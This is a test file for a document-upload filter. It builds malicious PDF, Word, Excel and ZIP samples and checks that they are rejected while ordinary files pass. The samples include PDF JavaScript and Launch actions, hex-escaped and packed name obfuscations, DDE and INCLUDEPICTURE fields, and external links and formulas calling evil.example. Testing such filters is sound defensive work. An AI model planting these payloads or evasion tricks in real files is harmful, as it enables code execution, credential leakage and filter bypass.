import { deflateSync } from 'node:zlib';
import { afterAll, expect, test } from 'vitest';
import { acceptUpload } from '../../../tests/support/upload.ts';
import { zipOf } from '../../../tests/support/zip.ts';

/** Files that run something or load from elsewhere, each written in the ways in which it can be hidden. */

/** How many inputs were tried, by kind; printed at the end. */
const tried: Record<string, number> = {};
afterAll(() => {
  const total = Object.values(tried).reduce((sum, count) => sum + count, 0);
  console.info(
    `试过的恶意文件共 ${total} 个：${Object.entries(tried)
      .map(([kind, count]) => `${kind} ${count}`)
      .join('，')}`,
  );
});

async function refused(kind: string, name: string, bytes: Uint8Array, why: RegExp): Promise<void> {
  tried[kind] = (tried[kind] ?? 0) + 1;
  const verdict = await acceptUpload(name, bytes);
  expect(
    verdict.accepted ? `收下了 ${verdict.name}` : verdict.message,
    Buffer.from(bytes).toString('latin1').slice(0, 300),
  ).toMatch(why);
}
async function accepted(name: string, bytes: Uint8Array): Promise<string> {
  const verdict = await acceptUpload(name, bytes);
  return verdict.accepted ? verdict.name : verdict.message;
}

const pdf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objects.map((object) => Buffer.from(object)),
    Buffer.from('\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  ]);
const stream = (dictionary: string, content: string | Buffer) =>
  Buffer.concat([
    Buffer.from(`5 0 obj<<${dictionary}>>stream\n`),
    Buffer.from(content),
    Buffer.from('\nendstream endobj\n'),
  ]);
const packed = (object: string, more = '') =>
  stream(`/Type/ObjStm/Filter/FlateDecode/N 1/First 4${more}`, deflateSync(`1 0 ${object}`));

/** A name in every way in which PDF may write it: as it is, some letters as numbers, all of them, in capitals. */
function* spellings(name: string): Generator<string> {
  const code = (letter: string) => `#${letter.charCodeAt(0).toString(16)}`;
  yield `/${name}`;
  yield `/${name[0]}${code(name[1] as string)}${name.slice(2)}`;
  yield `/${[...name].map(code).join('')}`;
  yield `/${[...name].map((letter) => code(letter).toUpperCase()).join('')}`;
}

const ACTIONS: [kind: string, name: string, object: (name: string) => string, why: RegExp][] = [
  ['PDF 脚本', 'JavaScript', (name) => `<</S${name}/JS(app.alert\\(1\\))>>`, /脚本/],
  ['PDF 启动程序', 'Launch', (name) => `<</S${name}/F(cmd.exe)>>`, /启动别的程序/],
  ['PDF 播放动作里的脚本', 'Rendition', (name) => `<</S${name}/OP 0/JS(app.alert\\(1\\))>>`, /播放器/],
  ['PDF 提交表单', 'SubmitForm', (name) => `<</S${name}/F<</FS/URL/F(https://evil.example/)>>>>`, /发到别处/],
  ['PDF 导入数据', 'ImportData', (name) => `<</S${name}/F(x.fdf)>>`, /发到别处/],
  [
    'PDF 打开别的文件',
    'GoToR',
    (name) => `<</S${name}/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>`,
    /别的文件/,
  ],
  ['PDF 打开夹带的文件', 'GoToE', (name) => `<</S${name}/T<</R/C/N(a)>>>>`, /别的文件/],
  ['PDF 夹带文件', 'EmbeddedFiles', (name) => `<</Names<<${name}<</Names[(tool.exe)4 0 R]>>>>>>`, /夹带/],
  ['PDF 夹带文件', 'FileAttachment', (name) => `<</Subtype${name}/FS 4 0 R>>`, /夹带/],
  ['PDF 夹带文件', 'EF', (name) => `<</F(tool.exe)${name}<</F 5 0 R>>>>`, /夹带/],
  ['PDF 夹带文件', 'EF', (name) => `<</F(tool.exe)${name} 6 0 R>>`, /夹带/],
  ['PDF 表单程序', 'XFA', (name) => `<<${name} 3 0 R>>`, /XFA/],
];

test('PDF 里会运行、会外连、夹带文件的，明写、转义、压缩进对象流都不收', async () => {
  for (const [kind, name, object, why] of ACTIONS)
    for (const spelling of spellings(name)) {
      await refused(kind, 'a.pdf', pdf(`1 0 obj${object(spelling)}endobj`), why);
      await refused(kind, 'a.pdf', pdf(packed(object(spelling))), why);
    }
  // A stream without the optional type that is a program.
  const program = Buffer.alloc(256);
  program.write('MZ');
  program.writeUInt32LE(0x80, 0x3c);
  program.write('PE\0\0', 0x80);
  for (const content of [program, Buffer.from('\x7fELF\x02\x01\x01', 'latin1')]) {
    await refused('PDF 夹带程序', 'a.pdf', pdf(stream('', content)), /程序/);
    await refused('PDF 夹带程序', 'a.pdf', pdf(stream('/Filter/FlateDecode', deflateSync(content))), /程序/);
  }
  // Objects that only a PDF program can put together again.
  const hidden = packed('<</S/Launch>>', '/DecodeParms<</Predictor 12/Columns 2>>');
  await refused('PDF 藏起来的对象', 'a.pdf', pdf(hidden), /没法检查/);
  await refused(
    'PDF 藏起来的对象',
    'a.pdf',
    pdf(stream('/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]', '789c')),
    /没法检查/,
  );
});

test('PDF 里的普通链接、书签和图片照收', async () => {
  const plain = pdf(
    '1 0 obj<</Type/Catalog/OpenAction[3 0 R/Fit]>>endobj 2 0 obj<</S/URI/URI(https://kepu.example/)>>endobj 4 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj',
    stream(
      '/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 4>>/Subtype/Image',
      deflateSync('MZ picture /EF'),
    ),
  );
  expect(await accepted('通知.pdf', plain)).toBe('tongzhi.pdf');
});

const W = 'xmlns:w="w" xmlns:v="v"';
const word = (body: string, relations = '', parts: { name: string; content: string }[] = []) =>
  zipOf([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'word/document.xml', content: `<w:document ${W}>${body}</w:document>` },
    { name: 'word/_rels/document.xml.rels', content: `<Relationships>${relations}</Relationships>` },
    ...parts,
  ]);
const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (type: string, target: string, mode = 'External') =>
  `<Relationship Id="r1" Type="${TYPE}/${type}" Target="${target}" TargetMode="${mode}"/>`;
const runs = (...codes: string[]) =>
  codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('<w:t>x</w:t>');

test('Word 里嵌整个文件、从外面取图片、自己加载的关系，都不收', async () => {
  await refused('docx 嵌入文件', 'a.docx', word('<w:altChunk r:id="r1"/>'), /altChunk/);
  await refused('docx 嵌入文件', 'a.docx', word('', relation('aFChunk', 'x.mht', 'Internal')), /altChunk/);
  const fields = [
    ['INCLUDEPICTURE "https://evil.example/a.png" \\d'],
    ['INCLUDE', 'PICTURE "htt', 'ps://evil.example/a.png"'],
    ['includepicture  \\\\evil.example\\share\\a.png'],
    ['INCLUDEPICTURE "\\\\\\\\evil.example\\\\share\\\\a.png"'],
    ['INCLUDETEXT "file://evil.example/a.docx"'],
    ['INCLUDEPICTURE ', 'QUOTE "http:', '//evil.example/"'],
    ['LINK Excel.Sheet.8 "\\\\\\\\evil.example\\\\a.xls" a'],
    ['IMPORT "ftp://evil.example/a.png"'],
    ['DATABASE \\d "\\\\\\\\evil.example\\\\a.mdb"'],
  ];
  for (const codes of fields) await refused('docx 外取的域', 'a.docx', word(runs(...codes)), /从外面取图片/);
  await refused(
    'docx 外取的域',
    'a.docx',
    word('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://evil.example/&quot; "/>'),
    /从外面取图片/,
  );
  await refused('docx 运行的域', 'a.docx', word(runs('QUOTE 68 68 69 65 85', ' "cmd"')), /DDE/);
  for (const type of [
    'image',
    'attachedTemplate',
    'oleObject',
    'frame',
    'subDocument',
    'mailMergeSource',
    'hyperlink',
  ])
    for (const target of ['file://evil.example/a', '\\\\evil.example\\a'])
      await refused('docx 外部关系', 'a.docx', word('', relation(type, target)), /外面加载/);
  await refused(
    'docx 外部关系',
    'a.docx',
    word('', relation('image', 'https://evil.example/a.png')),
    /外面加载/,
  );
  await refused(
    'docx 外部关系',
    'a.docx',
    word('', relation('image', 'https://evil.example/a.png', 'Internal')),
    /外面加载/,
  );
  await refused(
    'docx 外部图片',
    'a.docx',
    word('<v:imagedata src="https://evil.example/a.png"/>'),
    /外面加载/,
  );
});

test('Word 里能点的链接、本机图片的域、页码照收；Excel 里从网上取数据的不收', async () => {
  const fine = word(
    runs(
      'HYPERLINK "https://kepu.example/"',
      ' PAGE ',
      'INCLUDEPICTURE "C:\\\\Users\\\\li\\\\a.png" \\* MERGEFORMATINET',
      'HYPERLINK "https://kepu.example/"',
    ),
    relation('hyperlink', 'https://kepu.example/'),
  );
  expect(await accepted('通知.docx', fine)).toBe('tongzhi.docx');
  const excel = (name: string, content: string) =>
    zipOf([
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'xl/workbook.xml', content: '<workbook/>' },
      { name, content },
    ]);
  await refused('xlsx 外取', 'a.xlsx', excel('xl/connections.xml', '<connections/>'), /取数据/);
  for (const formula of [
    '_xlfn.WEBSERVICE("https://evil.example/")',
    '_xlfn.IMAGE("https://evil.example/a.png")',
    'RTD("x",,"y")',
  ])
    await refused(
      'xlsx 外取',
      'a.xlsx',
      excel('xl/worksheets/sheet1.xml', `<x><f>${formula}</f></x>`),
      /取数据/,
    );
  expect(await accepted('b.xlsx', excel('xl/worksheets/sheet1.xml', '<x><f>SUM(A1:A3)</f></x>'))).toBe(
    'b.xlsx',
  );
});

test('压缩包里名字结尾带点、空格、冒号的程序，和 Windows 解不开的名字', async () => {
  for (const name of ['课件.exe.', '课件.exe ', '课件.exe. .', '课件.txt:a.exe', '课件.exe:a.txt'])
    await refused('压缩包里的程序', 'a.zip', zipOf([{ name, content: 'x' }]), /程序/);
  for (const name of ['con', 'aux.txt', '图/nul.png', 'COM1.jpg', 'lpt9'])
    await refused('压缩包里的设备名', 'a.zip', zipOf([{ name, content: 'x' }]), /解不开/);
});

test('文件名叫 con、nul、aux、com1 的换一个名字，结尾的点和空格去掉', async () => {
  const drawing = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>');
  const names = ['con', 'nul', 'aux', 'prn', 'com1', 'LPT9', 'CON'];
  for (const name of names) {
    tried.设备名 = (tried.设备名 ?? 0) + 1;
    expect(await accepted(`${name}.svg`, drawing)).toBe(`${name.toLowerCase()}-file.svg`);
  }
  for (const end of ['.', ' ', '. .', '...', '\u3000'])
    expect(await accepted(`图.svg${end}`, drawing)).toBe('tu.svg');
  expect(await accepted('console.svg', drawing)).toBe('console.svg');
});
